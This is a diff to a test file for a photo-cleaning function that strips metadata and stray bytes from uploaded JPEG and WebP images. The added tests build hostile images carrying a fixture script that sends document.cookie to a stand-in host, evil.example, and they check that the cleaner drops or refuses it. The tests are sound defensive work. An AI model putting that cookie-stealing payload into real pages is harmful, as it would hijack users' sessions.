@@ -8,7 +8,7 @@ import { describe, expect, it } from "vitest";
 import { PHOTO_MAX_SIDE } from "#shared/schemas/limits";
 import { cleanPhoto, PhotoRefusal } from "../lib/photo-bytes";
 import type { PhotoFixtureName } from "./photo-fixtures.global";
-import { contains, jpegMarkersBeforeScan, photoFixture, webpChunks } from "./photo-helpers";
+import { bytesNoDecoderNeeds, contains, jpegMarkersBeforeScan, photoFixture, webpChunks } from "./photo-helpers";
 
 const ALL_GOOD: PhotoFixtureName[] = ["gpsJpeg", "jpeg", "progressiveJpeg", "webp", "losslessWebp", "gpsWebp"];
 
@@ -24,6 +24,27 @@ const join = (...parts: ArrayLike<number>[]) => {
 const text = (s: string) => new TextEncoder().encode(s);
 /** A JPEG segment: marker, length, payload. */
 const segment = (marker: number, payload: Uint8Array) => join([0xff, marker, (payload.length + 2) >> 8, (payload.length + 2) & 0xff], payload);
+
+/** A RIFF WebP of the given chunks, each padded to an even length. */
+const riff = (...chunks: [string, Uint8Array][]) => {
+  const body = join(...chunks.flatMap(([name, data]) => [text(name), u32(data.length), data, new Uint8Array(data.length & 1)]));
+  return join(text("RIFF"), u32(body.length + 4), text("WEBP"), body);
+};
+const u32 = (n: number) => [n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, n >>> 24];
+/** The chunks of a WebP file by name (the first of each). */
+function chunksOf(b: Uint8Array): Record<string, Uint8Array> {
+  const out: Record<string, Uint8Array> = {};
+  const view = new DataView(b.buffer, b.byteOffset, b.byteLength);
+  for (let at = 12; at + 8 <= b.length; ) {
+    const size = view.getUint32(at + 4, true);
+    out[String.fromCharCode(...b.subarray(at, at + 4))] ??= b.subarray(at + 8, at + 8 + size);
+    at += 8 + size + (size & 1);
+  }
+  return out;
+}
+/** Where the first segment with this marker starts in a JPEG. */
+const markerAt = (b: Uint8Array, marker: number) => b.findIndex((v, i) => v === 0xff && b[i + 1] === marker);
+const PAGE = text("<html><script>fetch('https://evil.example/?c='+document.cookie)</script></html>");
 
 function refusal(bytes: Uint8Array): PhotoRefusal {
   try {
@@ -66,14 +87,13 @@ describe("cleanPhoto", () => {
     for (const needle of ["Exif", "Hidden", "TRAILER"]) expect(contains(clean.bytes, needle), needle).toBe(false);
   });
 
-  it("keeps a plain 14-byte Adobe colour marker and drops a longer APP14", () => {
+  it("keeps no APP14 either, not even a plain Adobe colour marker: a three-component JPEG reads as YCbCr without it", () => {
     const original = photoFixture("jpeg");
-    const adobe = segment(0xee, join(text("Adobe"), [0, 100, 0, 0, 0, 0, 1]));
-    const long = segment(0xee, join(text("Adobe"), [0, 100, 0, 0, 0, 0, 1], text("hidden words")));
-    const withAdobe = join(original.subarray(0, 2), adobe, original.subarray(2));
-    expect(jpegMarkersBeforeScan(cleanPhoto(withAdobe).bytes)).toContain("EE");
-    const withLong = join(original.subarray(0, 2), long, original.subarray(2));
-    expect(cleanPhoto(withLong).bytes).toEqual(cleanPhoto(original).bytes);
+    for (const extra of [text("hidden words"), new Uint8Array(0)]) {
+      const adobe = segment(0xee, join(text("Adobe"), [0, 100, 0, 0, 0, 0, 1], extra));
+      const withAdobe = join(original.subarray(0, 2), adobe, original.subarray(2));
+      expect(cleanPhoto(withAdobe).bytes).toEqual(cleanPhoto(original).bytes);
+    }
   });
 
   it("refuses an animated WebP, a JPEG whose height comes later, and either kind cut anywhere", () => {
@@ -131,6 +151,7 @@ describe("cleanPhoto", () => {
           expect(cleanPhoto(clean.bytes).bytes).toEqual(clean.bytes);
           if (clean.type === "image/jpeg") expect(jpegMarkersBeforeScan(clean.bytes).filter((m) => /^E[0-9A-D]|^EF|^FE/.test(m))).toEqual([]);
           else expect(webpChunks(clean.bytes).filter((c) => !["VP8X", "ALPH", "VP8 ", "VP8L"].includes(c))).toEqual([]);
+          expect(bytesNoDecoderNeeds(clean.bytes)).toEqual([]);
         },
       ),
       { numRuns: 300 },
@@ -145,5 +166,90 @@ describe("cleanPhoto", () => {
       }),
       { numRuns: 300 },
     );
+  });
+});
+
+describe("only what a decoder needs is stored", () => {
+  const jpeg = () => photoFixture("jpeg");
+  const afterSoi = (...parts: ArrayLike<number>[]) => join(jpeg().subarray(0, 2), ...parts, jpeg().subarray(2));
+  const stored = (bytes: Uint8Array) => {
+    const clean = cleanPhoto(bytes);
+    expect(bytesNoDecoderNeeds(clean.bytes)).toEqual([]);
+    expect(contains(clean.bytes, "<html>")).toBe(false);
+    return clean.bytes;
+  };
+
+  it("a JPEG with a 0xFFF0 segment holding a web page is stored without it", () => {
+    const hostile = afterSoi(segment(0xf0, PAGE));
+    expect(contains(hostile, "<html><script>")).toBe(true);
+    expect(stored(hostile)).toEqual(cleanPhoto(jpeg()).bytes);
+  });
+
+  it("JPG0-JPG13, reserved markers, APPn and comments are left out wherever they sit", () => {
+    for (const marker of [0xf0, 0xf7, 0xfd, 0x02, 0x4f, 0xbf, 0xe0, 0xef, 0xfe, 0xdc, 0xcc, 0xc8, 0xde, 0xdf]) {
+      expect(stored(afterSoi(segment(marker, PAGE))), marker.toString(16)).toEqual(cleanPhoto(jpeg()).bytes);
+      const progressive = photoFixture("progressiveJpeg");
+      const secondScan = progressive.findIndex((v, i) => v === 0xff && progressive[i + 1] === 0xda && i > markerAt(progressive, 0xda));
+      const between = join(progressive.subarray(0, secondScan), segment(marker, PAGE), progressive.subarray(secondScan));
+      expect(stored(between), marker.toString(16)).toEqual(progressive);
+    }
+  });
+
+  it("restart and TEM markers outside a scan, and fill bytes before markers and inside a scan, are left out", () => {
+    const original = jpeg();
+    const eoi = original.length - 2;
+    const filled = join(original.subarray(0, 2), [0xff, 0xd0, 0xff, 0x01, 0xff, 0xff, 0xff], original.subarray(2, eoi), [0xff, 0xff, 0xff], original.subarray(eoi));
+    expect(stored(filled)).toEqual(cleanPhoto(original).bytes);
+  });
+
+  it("a table, frame or restart segment longer than what it declares is refused, not stored", () => {
+    const original = jpeg();
+    for (const marker of [0xdb, 0xc4, 0xc0, 0xda]) {
+      const at = markerAt(original, marker);
+      const length = (original[at + 2] << 8) | original[at + 3];
+      const longer = join(original.subarray(0, at), [0xff, marker, (length + PAGE.length) >> 8, (length + PAGE.length) & 0xff], original.subarray(at + 4, at + 2 + length), PAGE, original.subarray(at + 2 + length));
+      expect(refusal(longer), marker.toString(16)).toMatchObject({ status: 400, code: "photo_damaged" });
+    }
+    expect(refusal(afterSoi(segment(0xdd, join([0, 4], PAGE))))).toMatchObject({ status: 400, code: "photo_damaged" });
+    expect(stored(afterSoi(segment(0xdd, new Uint8Array([0, 4])))).length).toBe(cleanPhoto(original).bytes.length + 6);
+  });
+
+  it("CMYK, lossless and arithmetic-coded JPEGs are refused with a sentence", () => {
+    const original = jpeg();
+    const sof = markerAt(original, 0xc0);
+    for (const marker of [0xc3, 0xc9, 0xcb, 0xcf]) {
+      const other = original.slice();
+      other[sof + 1] = marker;
+      expect(refusal(other).message, marker.toString(16)).toMatch(/^This JPEG is of a kind browsers do not show/);
+    }
+  });
+
+  it("a WebP's VP8X is written anew: ten bytes, no reserved bit, no metadata flag", () => {
+    const { VP8X: vp8x, "VP8 ": vp8, ALPH: alph } = chunksOf(photoFixture("gpsWebp"));
+    const longer = riff(["VP8X", join(vp8x, PAGE)], ["ALPH", alph], ["VP8 ", vp8]);
+    const dirty = vp8x.slice();
+    dirty[0] |= 0xc1 | 0x2c; // reserved bits and the ICC, EXIF and XMP flags
+    dirty.set([0x3c, 0x68, 0x74], 1);
+    const reserved = riff(["VP8X", dirty], ["ALPH", alph], ["VP8 ", vp8]);
+    for (const hostile of [longer, reserved]) {
+      const clean = stored(hostile);
+      expect(webpChunks(clean)).toEqual(["VP8X", "ALPH", "VP8 "]);
+      expect(chunksOf(clean).VP8X).toEqual(join([0x10, 0, 0, 0], vp8x.subarray(4, 10)));
+    }
+  });
+
+  it("a WebP keeps no unknown chunk, no bytes after its RIFF, and raw alpha only as long as the picture", () => {
+    const { VP8X: vp8x, "VP8 ": vp8 } = chunksOf(photoFixture("gpsWebp"));
+    const plain = photoFixture("webp");
+    expect(stored(join(plain, PAGE))).toEqual(plain);
+    const unknown = riff(["HTML", PAGE], ["VP8 ", chunksOf(plain)["VP8 "]]);
+    expect(() => cleanPhoto(unknown)).toThrow(PhotoRefusal); // the picture must come first in a simple WebP
+    const inside = riff(["VP8X", vp8x], ["HTML", PAGE], ["VP8 ", vp8], ["EXIF", PAGE]);
+    expect(webpChunks(stored(inside))).toEqual(["VP8X", "VP8 "]);
+    const pixels = 300 * 300;
+    const rawAlpha = join([0xc0], new Uint8Array(pixels).fill(0x80), PAGE);
+    const clean = stored(riff(["VP8X", vp8x], ["ALPH", rawAlpha], ["VP8 ", vp8]));
+    expect(chunksOf(clean).ALPH.length).toBe(1 + pixels);
+    expect(chunksOf(clean).ALPH[0]).toBe(0);
   });
 });
